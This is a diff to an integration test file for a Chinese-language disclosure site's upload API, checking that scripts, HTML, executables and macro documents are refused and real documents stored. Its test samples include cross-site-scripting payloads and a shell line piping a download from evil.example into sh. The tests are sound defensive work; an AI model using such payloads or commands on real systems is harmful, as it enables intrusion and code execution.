@@ -1,7 +1,9 @@
-import fs from 'fs';
+import fs, { readFileSync } from 'fs';
 import path from 'path';
 import sharp from 'sharp';
 import zlib from 'zlib';
+import { createAdminAccount } from '../harness/admin-users';
+import * as sample from '../harness/sample-files';
 import { createFullAccessToken, startApp, type TestApp } from '../harness/strapi';
 
 const PUBLIC_DIR = path.join(__dirname, '..', '..', 'public');
@@ -16,16 +18,6 @@ const upload = (name: string, content: Buffer, contentType?: string) =>
     .post('/api/upload')
     .set('Authorization', `Bearer ${token}`)
     .attach('files', content, { filename: name, ...(contentType ? { contentType } : {}) });
-
-/** The start of a PE file: MZ header whose e_lfanew points at the PE signature. */
-function windowsExecutable(): Buffer {
-  const file = Buffer.alloc(512);
-  file.write('MZ', 0, 'latin1');
-  file.writeUInt32LE(0x80, 0x3c);
-  file.write('PE\0\0', 0x80, 'latin1');
-  file.writeUInt16LE(0x14c, 0x84);
-  return file;
-}
 
 const fileCount = () => app.strapi.db.query('plugin::upload.file').count();
 
@@ -62,20 +54,149 @@ afterAll(async () => {
   await app?.stop();
 });
 
+const escapeRegExp = (text: string) => text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
+/** Refused as not a kind a disclosure site publishes, naming the file and what is accepted. */
+const notAccepted = (name: string) =>
+  new RegExp(`^不允许上传该类型的文件：${escapeRegExp(name)}（仅接受 PDF、OFD、Office/WPS 文档、图片、压缩包、音频和视频） \\(file type not accepted: ${escapeRegExp(name)}; only `);
+
 describe('uploads through the content API', () => {
   test.each([
+    ['prefixed XHTML (<x:script>)', 'page.xhtml', sample.prefixedXhtml(), 'application/xhtml+xml'],
+    ['prefixed XHTML declared as XML', 'data.xml', sample.prefixedXhtml(), 'application/xml'],
+    ['markup after the first kilobyte', 'report.txt', sample.markupAfterFirstKilobyte(), 'text/plain'],
+    ['an XML file (application/xml)', 'catalogue.xml', Buffer.from('<?xml version="1.0"?><catalogue><item>政策</item></catalogue>'), 'application/xml'],
+    ['an ECMAScript file (.ecma)', 'app.ecma', Buffer.from('fetch("/admin/users").then((r) => r.json())'), 'application/ecmascript'],
+    ['an ECMAScript file (.es) declared as text', 'app.es', Buffer.from('export default () => fetch("/admin/users")'), 'text/plain'],
+    ['a script declared as text', 'app.js', Buffer.from('fetch("/admin/users").then((r) => r.json())'), 'text/plain'],
     ['an SVG with script', 'logo.svg', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>'), 'image/svg+xml'],
     ['an SVG declared as PNG', 'logo.png', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>'), 'image/png'],
     ['an HTML page', 'notice.html', Buffer.from('<!doctype html><script>fetch("/admin")</script>'), 'text/html'],
-    ['a Windows executable', 'setup.exe', windowsExecutable(), 'application/octet-stream'],
-    ['a Windows executable named as a PDF', 'report.pdf', windowsExecutable(), 'application/pdf'],
-    // Plain text to a byte check: refused by the upload plugin's denied types (config/plugins.ts).
-    ['a script', 'app.js', Buffer.from('fetch("/admin/users").then((r) => r.json())'), 'text/plain'],
+    ['an HTML page named as a PDF', 'report.pdf', Buffer.from('<html><body onload="alert(1)">年度报告</body></html>'), 'application/pdf'],
+    ['a Windows executable', 'setup.exe', sample.windowsExecutable(), 'application/octet-stream'],
+    ['a Windows executable named as a PDF', 'report.pdf', sample.windowsExecutable(), 'application/pdf'],
+    ['a Linux executable', 'tool.bin', sample.elfExecutable(), 'application/octet-stream'],
+    ['a shell script', 'install.sh', Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n'), 'application/x-sh'],
+    ['plain text', '说明.txt', Buffer.from('政府信息公开工作年度报告\n'), 'text/plain'],
+    ['a Java archive', 'tool.zip', sample.jar(), 'application/zip'],
+    ['a macro-enabled Word document', '通知.docx', sample.docx({ macros: true }), 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'],
+    ['a HEIF photo', 'photo.heic', sample.heic(), 'image/heic'],
   ])('%s is refused with the reason, and nothing is stored', async (_what, name, content, contentType) => {
     const before = await fileCount();
     const response = await upload(name, content, contentType);
     expect(response.status).toBe(400);
-    expect(response.body.error.message).toMatch(/^(不允许上传该类型的文件|无法确认文件类型|不允许上传 SVG 图像)/);
+    expect(response.body.error.message).toMatch(notAccepted(name));
+    expect(await fileCount()).toBe(before);
+  });
+
+  test('a PDF named .html is refused: it would be served as a page', async () => {
+    const before = await fileCount();
+    const response = await upload('notice.html', sample.pdf(), 'text/html');
+    expect(response.status).toBe(400);
+    expect(response.body.error.message).toBe(
+      '文件内容为 PDF 文档，与扩展名 .html 不符：notice.html，请改用 .pdf 扩展名后再上传 (the content of notice.html is a PDF document, not what its extension .html says: name it .pdf)'
+    );
+    expect(await fileCount()).toBe(before);
+  });
+
+  test('one refused file among several: none of them is stored', async () => {
+    const before = await fileCount();
+    const response = await app
+      .http()
+      .post('/api/upload')
+      .set('Authorization', `Bearer ${token}`)
+      .attach('files', sample.pdf(), { filename: '年度报告.pdf', contentType: 'application/pdf' })
+      .attach('files', sample.prefixedXhtml(), { filename: '附件.xhtml', contentType: 'application/xhtml+xml' });
+    expect(response.status).toBe(400);
+    expect(response.body.error.message).toMatch(notAccepted('附件.xhtml'));
+    expect(await fileCount()).toBe(before);
+  });
+
+  test.each([
+    ['年度报告.pdf', 'application/pdf', () => sample.pdf()],
+    ['公文.ofd', 'application/ofd', () => sample.ofd()],
+    ['通知.docx', 'application/vnd.openxmlformats-officedocument.wordprocessingml.document', () => sample.docx()],
+    ['预算表.xlsx', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet', () => sample.xlsx()],
+    ['汇报.pptx', 'application/vnd.openxmlformats-officedocument.presentationml.presentation', () => sample.pptx()],
+    ['旧稿.doc', 'application/msword', () => sample.ole2()],
+    ['金山文字.wps', 'application/octet-stream', () => sample.ole2()],
+    ['文本.odt', 'application/vnd.oasis.opendocument.text', () => sample.odf()],
+    ['图解.png', 'image/png', () => sample.png()],
+    ['动图.gif', 'image/gif', () => sample.gif()],
+    ['图.webp', 'image/webp', () => sample.webp()],
+    ['位图.bmp', 'image/bmp', () => sample.bmp()],
+    ['附件.zip', 'application/zip', () => sample.zip([['说明.txt', '附件说明']])],
+    ['附件.rar', 'application/vnd.rar', () => sample.rar()],
+    ['附件.7z', 'application/x-7z-compressed', () => sample.sevenZip()],
+    ['数据.tar.gz', 'application/gzip', () => sample.gzip()],
+    ['录音.mp3', 'audio/mpeg', () => sample.mp3()],
+    ['录音.wav', 'audio/wav', () => sample.wav()],
+    ['录音.m4a', 'audio/mp4', () => sample.isoMedia('M4A ', ['M4A ', 'mp42', 'isom'])],
+    ['录音.ogg', 'audio/ogg', () => sample.ogg()],
+    ['录音.flac', 'audio/flac', () => sample.flac()],
+    ['发布会.mp4', 'video/mp4', () => sample.isoMedia()],
+    ['发布会.mov', 'video/quicktime', () => sample.isoMedia('qt  ', ['qt  '])],
+    ['发布会.webm', 'video/webm', () => sample.matroska('webm')],
+    ['发布会.avi', 'video/x-msvideo', () => sample.avi()],
+    ['旧视频.flv', 'video/x-flv', () => sample.flv()],
+    ['旧视频.wmv', 'video/x-ms-wmv', () => sample.asf()],
+  ])('%s is stored as %s, whatever it was declared as', async (name, mime, build) => {
+    // Declared as nothing in particular: the type stored is the content's.
+    const response = await upload(name, await build(), 'application/octet-stream');
+    expect(response.status).toBe(201);
+    const [file] = response.body;
+    stored.push(file.url, ...Object.values(file.formats ?? {}).map((format: any) => format.url));
+    expect(file).toMatchObject({ name, mime, ext: path.extname(name) });
+  });
+
+  test('served with its own type: a PDF declared as a page is stored and served as a PDF', async () => {
+    const response = await upload('年度报告.pdf', sample.pdf(), 'text/html');
+    expect(response.status).toBe(201);
+    const [file] = response.body;
+    stored.push(file.url);
+    expect(file.mime).toBe('application/pdf');
+    const served = await app.http().get(file.url);
+    expect(served.status).toBe(200);
+    expect(served.headers['content-type']).toBe('application/pdf');
+    expect(served.headers['x-content-type-options']).toBe('nosniff');
+  });
+
+  test('a file named without an extension is stored under its kind’s', async () => {
+    const response = await upload('附件一', sample.pdf(), 'application/octet-stream');
+    expect(response.status).toBe(201);
+    const [file] = response.body;
+    stored.push(file.url);
+    expect(file).toMatchObject({ ext: '.pdf', mime: 'application/pdf' });
+    expect(file.url).toMatch(/\.pdf$/);
+  });
+
+  test('a replacement is checked too, and must suit the address it keeps', async () => {
+    const created = await upload('年度报告.pdf', sample.pdf('第一版'), 'application/pdf');
+    expect(created.status).toBe(201);
+    const [file] = created.body;
+    stored.push(file.url);
+    const replace = (name: string, content: Buffer, contentType: string) =>
+      app.http().post(`/api/upload?id=${file.id}`).set('Authorization', `Bearer ${token}`).attach('files', content, { filename: name, contentType });
+
+    const page = await replace('年度报告.xhtml', sample.prefixedXhtml(), 'application/xhtml+xml');
+    expect(page.status).toBe(400);
+    expect(page.body.error.message).toMatch(notAccepted('年度报告.xhtml'));
+    const picture = await replace('图解.png', await sample.png(), 'image/png');
+    expect(picture.status).toBe(400);
+    expect(picture.body.error.message).toMatch(/^替换的文件须与原文件格式相同：原文件扩展名为 \.pdf，图解\.png 的内容为 PNG 图片 \(a replacement keeps/);
+    expect(readFileSync(path.join(PUBLIC_DIR, file.url))).toEqual(sample.pdf('第一版'));
+
+    const second = await replace('年度报告（修订）.pdf', sample.pdf('第二版'), 'application/pdf');
+    expect(second.status).toBe(200);
+    expect(second.body).toMatchObject({ id: file.id, url: file.url, mime: 'application/pdf' });
+    expect(readFileSync(path.join(PUBLIC_DIR, file.url))).toEqual(sample.pdf('第二版'));
+  });
+
+  test('a replacement of a file that does not exist: 404, not a server error', async () => {
+    const before = await fileCount();
+    for (const id of ['999999', 'abc', '1e3', '-1']) {
+      const response = await app.http().post(`/api/upload?id=${id}`).set('Authorization', `Bearer ${token}`).attach('files', sample.pdf(), { filename: 'a.pdf', contentType: 'application/pdf' });
+      expect(response.status).toBe(404);
+    }
     expect(await fileCount()).toBe(before);
   });
 
@@ -153,19 +274,39 @@ describe('uploads through the content API', () => {
   });
 
   test('an image that is not what it claims is refused, saying what it is', async () => {
-    const png = await sharp({ create: { width: 40, height: 30, channels: 3, background: '#336699' } }).png().toBuffer();
+    const png = await sample.png();
     const before = await fileCount();
-    const disguised = await upload('照片.jpg', png, 'image/jpeg');
-    expect(disguised.status).toBe(400);
-    expect(disguised.body.error.message).toMatch(/^文件内容为 PNG 图片，与所称的 image\/jpeg 不符/);
+    const misnamed = await upload('照片.jpg', png, 'image/jpeg');
+    expect(misnamed.status).toBe(400);
+    expect(misnamed.body.error.message).toMatch(/^文件内容为 PNG 图片，与扩展名 \.jpg 不符：照片\.jpg，请改用 \.png 扩展名后再上传/);
+    const misdeclared = await upload('照片.png', png, 'image/jpeg');
+    expect(misdeclared.status).toBe(400);
+    expect(misdeclared.body.error.message).toMatch(/^文件内容为 PNG 图片，与所称的 image\/jpeg 不符/);
     const notAnImage = await upload('图表.png', Buffer.from('这不是图片，是一段文字。'.repeat(20)), 'image/png');
     expect(notAnImage.status).toBe(400);
-    expect(notAnImage.body.error.message).toMatch(/^文件声明为图片（image\/png），但内容不是可识别的图片/);
+    expect(notAnImage.body.error.message).toMatch(notAccepted('图表.png'));
     expect(await fileCount()).toBe(before);
   });
 
   test('the public may not upload at all', async () => {
     const response = await app.http().post('/api/upload').attach('files', Buffer.from('hello'), 'note.txt');
     expect([401, 403]).toContain(response.status);
+  });
+});
+
+describe('uploads through the admin panel', () => {
+  test('the same check: a page is refused, a document stored', async () => {
+    const admin = await createAdminAccount(app, { name: 'uploader', roles: ['strapi-super-admin'], organization: null });
+    const before = await fileCount();
+    const page = await app.http().post('/upload').set(admin.headers).attach('files', sample.prefixedXhtml(), { filename: '通知.xhtml', contentType: 'application/xhtml+xml' });
+    expect(page.status).toBe(400);
+    expect(page.body.error.message).toMatch(notAccepted('通知.xhtml'));
+    expect(await fileCount()).toBe(before);
+
+    const document = await app.http().post('/upload').set(admin.headers).attach('files', sample.ofd(), { filename: '公文.ofd', contentType: 'application/octet-stream' });
+    expect(document.status).toBe(201);
+    stored.push(document.body[0].url);
+    expect(document.body[0]).toMatchObject({ mime: 'application/ofd', ext: '.ofd' });
+    expect(await fileCount()).toBe(before + 1);
   });
 });
